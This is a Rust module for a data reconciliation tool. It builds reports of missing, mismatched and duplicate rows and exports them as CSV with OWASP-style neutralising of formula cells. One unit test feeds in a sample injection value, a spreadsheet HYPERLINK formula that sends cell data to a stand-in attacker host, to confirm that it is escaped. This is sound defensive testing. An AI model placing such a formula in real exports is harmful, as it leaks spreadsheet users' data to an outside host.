//! The result of a run: every difference classified, with samples and counts.

use serde::Serialize;
use std::borrow::Cow;
use std::collections::BTreeMap;

/// A row key: the normalised value of each key part (`None` is SQL NULL).
pub type Key = Vec<Option<String>>;

/// One column that differs, with both normalised values.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ColumnDiff {
    /// The column's name in the asset.
    pub column: String,
    /// The left value.
    pub left: Option<String>,
    /// The right value.
    pub right: Option<String>,
}

/// A key present on both sides whose values differ.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Mismatch {
    /// The key.
    pub key: Key,
    /// The differing columns.
    pub columns: Vec<ColumnDiff>,
}

/// A key that occurs more than once on a side.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Duplicate {
    /// The key.
    pub key: Key,
    /// `left` or `right`.
    pub side: &'static str,
    /// How many rows carry it.
    pub count: u64,
}

/// The outcome of one aggregate check.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Default)]
pub struct AggregateResult {
    /// The check's name.
    pub name: String,
    /// Groups on the left.
    pub groups_left: u64,
    /// Groups on the right.
    pub groups_right: u64,
    /// Groups only on the right.
    pub missing_left: Vec<Key>,
    /// Groups only on the left.
    pub missing_right: Vec<Key>,
    /// Groups whose measures differ.
    pub mismatches: Vec<Mismatch>,
}

impl AggregateResult {
    /// Differing groups of any class.
    pub fn differences(&self) -> u64 {
        (self.missing_left.len() + self.missing_right.len() + self.mismatches.len()) as u64
    }
}

/// What the engine did (for benchmarks and the history).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Default)]
pub struct Work {
    /// Checksum passes (levels of the bisection).
    pub levels: u32,
    /// Segments whose checksums were compared, both sides together.
    pub segments_compared: u64,
    /// Rows fetched and compared row by row, both sides together.
    pub rows_fetched: u64,
    /// Queries run, both sides together.
    pub queries: u64,
    /// Whether rows were split by a shared numeric column (`segment_by`) or by key hash.
    pub segmented_by: &'static str,
    /// Set when the run continued from the previous run's checkpoint.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub incremental: Option<crate::checkpoint::Incremental>,
}

/// The result of a reconciliation run.
#[derive(Debug, Clone, PartialEq, Serialize, Default)]
pub struct Report {
    /// The reconciliation's id.
    pub reconciliation: String,
    /// When the run started (UTC, RFC 3339).
    pub started_at: String,
    /// Rows changed at or after this instant (UTC) are in flight.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cutoff: Option<String>,
    /// Wall time in milliseconds.
    pub duration_ms: u64,
    /// Rows compared on the left.
    pub rows_left: u64,
    /// Rows compared on the right.
    pub rows_right: u64,
    /// Keys only on the right.
    pub missing_left: Vec<Key>,
    /// Keys only on the left.
    pub missing_right: Vec<Key>,
    /// Keys on both sides with differing values.
    pub mismatches: Vec<Mismatch>,
    /// Keys that occur more than once on a side.
    pub duplicates: Vec<Duplicate>,
    /// Differing keys changed within the grace window, not reported as differences.
    pub in_flight: u64,
    /// Value mismatches per column.
    pub per_column: BTreeMap<String, u64>,
    /// Aggregate checks.
    pub aggregates: Vec<AggregateResult>,
    /// What the engine did.
    pub work: Work,
    /// The first level's checksums, for the next incremental run (not part of the report).
    #[serde(skip)]
    pub checkpoint: Option<crate::checkpoint::Checkpoint>,
}

/// Counts per class, as recorded in the history.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, serde::Deserialize, Default)]
pub struct Counts {
    /// Keys only on the right.
    pub missing_left: u64,
    /// Keys only on the left.
    pub missing_right: u64,
    /// Keys with differing values.
    pub mismatch: u64,
    /// Duplicated keys.
    pub duplicate: u64,
    /// Differences held back as in flight.
    pub in_flight: u64,
}

impl Report {
    /// Counts per class.
    pub fn counts(&self) -> Counts {
        Counts {
            missing_left: self.missing_left.len() as u64,
            missing_right: self.missing_right.len() as u64,
            mismatch: self.mismatches.len() as u64,
            duplicate: self.duplicates.len() as u64,
            in_flight: self.in_flight,
        }
    }

    /// Row-level differences of every class.
    pub fn differences(&self) -> u64 {
        let c = self.counts();
        c.missing_left + c.missing_right + c.mismatch + c.duplicate
    }

    /// Aggregate groups that differ.
    pub fn aggregate_differences(&self) -> u64 {
        self.aggregates
            .iter()
            .map(AggregateResult::differences)
            .sum()
    }

    /// Differences per compared row (the drift detector's signal).
    pub fn mismatch_rate(&self) -> f64 {
        let rows = self.rows_left.max(self.rows_right).max(1);
        self.differences() as f64 / rows as f64
    }

    /// Every differing key as CSV: `class,side,column,key…,left,right`.
    pub fn keys_csv(&self) -> String {
        let mut bytes = Vec::new();
        let mut writer = csv::Writer::from_writer(&mut bytes);
        let key_text = |key: &Key| {
            key.iter()
                .map(|p| p.as_deref().unwrap_or("NULL").to_owned())
                .collect::<Vec<_>>()
                .join("|")
        };
        // Writing to memory cannot fail: there is no I/O, and every record has six cells.
        let mut line = |fields: [&str; 6]| {
            let cells = fields.map(csv_cell);
            let _ = writer.write_record(cells.iter().map(|c| c.as_bytes()));
        };
        line(["class", "side", "column", "key", "left", "right"]);
        for key in &self.missing_left {
            line(["missing_left", "right", "", &key_text(key), "", ""]);
        }
        for key in &self.missing_right {
            line(["missing_right", "left", "", &key_text(key), "", ""]);
        }
        for m in &self.mismatches {
            for c in &m.columns {
                line([
                    "mismatch",
                    "both",
                    &c.column,
                    &key_text(&m.key),
                    c.left.as_deref().unwrap_or("NULL"),
                    c.right.as_deref().unwrap_or("NULL"),
                ]);
            }
        }
        for d in &self.duplicates {
            line([
                "duplicate",
                d.side,
                "",
                &key_text(&d.key),
                &d.count.to_string(),
                "",
            ]);
        }
        let _ = writer.flush();
        drop(writer);
        String::from_utf8_lossy(&bytes).into_owned()
    }

    /// A human summary with up to `samples` keys per class.
    pub fn summary(&self, samples: usize) -> String {
        let c = self.counts();
        let key_text = |key: &Key| {
            key.iter()
                .map(|p| p.as_deref().unwrap_or("NULL").to_owned())
                .collect::<Vec<_>>()
                .join(" / ")
        };
        let mut out = format!(
            "reconciliation {}: {} left rows, {} right rows in {:.2} s\n",
            self.reconciliation,
            self.rows_left,
            self.rows_right,
            self.duration_ms as f64 / 1000.0
        );
        if self.differences() == 0 {
            out.push_str("  no row differences\n");
        }
        let classes: [(&str, u64, Vec<String>); 4] = [
            (
                "missing on the left (only in right)",
                c.missing_left,
                self.missing_left.iter().map(key_text).collect(),
            ),
            (
                "missing on the right (only in left)",
                c.missing_right,
                self.missing_right.iter().map(key_text).collect(),
            ),
            (
                "value mismatches",
                c.mismatch,
                self.mismatches
                    .iter()
                    .map(|m| {
                        let cols: Vec<String> = m
                            .columns
                            .iter()
                            .map(|d| {
                                format!(
                                    "{}: {} ≠ {}",
                                    d.column,
                                    d.left.as_deref().unwrap_or("NULL"),
                                    d.right.as_deref().unwrap_or("NULL")
                                )
                            })
                            .collect();
                        format!("{} ({})", key_text(&m.key), cols.join(", "))
                    })
                    .collect(),
            ),
            (
                "duplicate keys",
                c.duplicate,
                self.duplicates
                    .iter()
                    .map(|d| format!("{} ({}× on the {})", key_text(&d.key), d.count, d.side))
                    .collect(),
            ),
        ];
        for (label, count, list) in classes {
            if count == 0 {
                continue;
            }
            out.push_str(&format!("  {count} {label}\n"));
            for sample in list.iter().take(samples) {
                out.push_str(&format!("    {sample}\n"));
            }
        }
        for (column, count) in &self.per_column {
            out.push_str(&format!("  column {column}: {count} mismatches\n"));
        }
        if self.in_flight > 0 {
            out.push_str(&format!(
                "  {} differing keys in flight (changed within the grace window), not reported\n",
                self.in_flight
            ));
        }
        for a in &self.aggregates {
            out.push_str(&format!(
                "  aggregate {}: {} groups left, {} right, {} differ\n",
                a.name,
                a.groups_left,
                a.groups_right,
                a.differences()
            ));
            for key in a.missing_left.iter().take(samples) {
                out.push_str(&format!("    only right: {}\n", key_text(key)));
            }
            for key in a.missing_right.iter().take(samples) {
                out.push_str(&format!("    only left: {}\n", key_text(key)));
            }
            for m in a.mismatches.iter().take(samples) {
                for d in &m.columns {
                    out.push_str(&format!(
                        "    {}: {} {} ≠ {}\n",
                        key_text(&m.key),
                        d.column,
                        d.left.as_deref().unwrap_or("NULL"),
                        d.right.as_deref().unwrap_or("NULL")
                    ));
                }
            }
        }
        out.push_str(&format!(
            "  work: {} levels, {} segments compared, {} rows fetched, {} queries (split by {})\n",
            self.work.levels,
            self.work.segments_compared,
            self.work.rows_fetched,
            self.work.queries,
            self.work.segmented_by
        ));
        out
    }
}

/// A CSV cell's text. A cell a spreadsheet would read as a formula (starting with `=`, `+`,
/// `-`, `@`, a tab or a carriage return — database values can come from shop customers) gets
/// a leading `'`, as OWASP recommends, so it is shown as text. Quoting a cell with a
/// separator, quote or line break (RFC 4180) is the `csv` writer's.
fn csv_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `text` as the left value of a mismatch in the keys CSV.
    fn csv_field(text: &str) -> String {
        let report = Report {
            mismatches: vec![Mismatch {
                key: vec![Some("1".to_owned())],
                columns: vec![ColumnDiff {
                    column: "c".to_owned(),
                    left: Some(text.to_owned()),
                    right: Some("x".to_owned()),
                }],
            }],
            ..Report::default()
        };
        let csv = report.keys_csv();
        let cell = csv
            .strip_prefix("class,side,column,key,left,right\nmismatch,both,c,1,")
            .and_then(|rest| rest.strip_suffix(",x\n"));
        cell.unwrap_or(&csv).to_owned()
    }

    #[test]
    fn formula_cells_are_neutralised_and_quoted_cells_stay_quoted() {
        assert_eq!(csv_field("open"), "open");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil.example/?x=\"&D2,\"open\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&D2,\"\"open\"\")\""
        );
        assert_eq!(csv_field("@SUM(1+9)"), "'@SUM(1+9)");
        assert_eq!(csv_field("+1"), "'+1");
        assert_eq!(csv_field("-12.5000"), "'-12.5000");
        assert_eq!(csv_field("\tx"), "'\tx");
        assert_eq!(csv_field("\rx"), "\"'\rx\"");
        assert_eq!(csv_field("a=b"), "a=b");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn every_class_is_one_line() {
        let report = Report {
            missing_left: vec![vec![Some("7".to_owned()), None]],
            duplicates: vec![Duplicate {
                key: vec![Some("8".to_owned())],
                side: "left",
                count: 2,
            }],
            ..Report::default()
        };
        assert_eq!(
            report.keys_csv(),
            "class,side,column,key,left,right\n\
             missing_left,right,,7|NULL,,\n\
             duplicate,left,,8,2,\n"
        );
    }
}
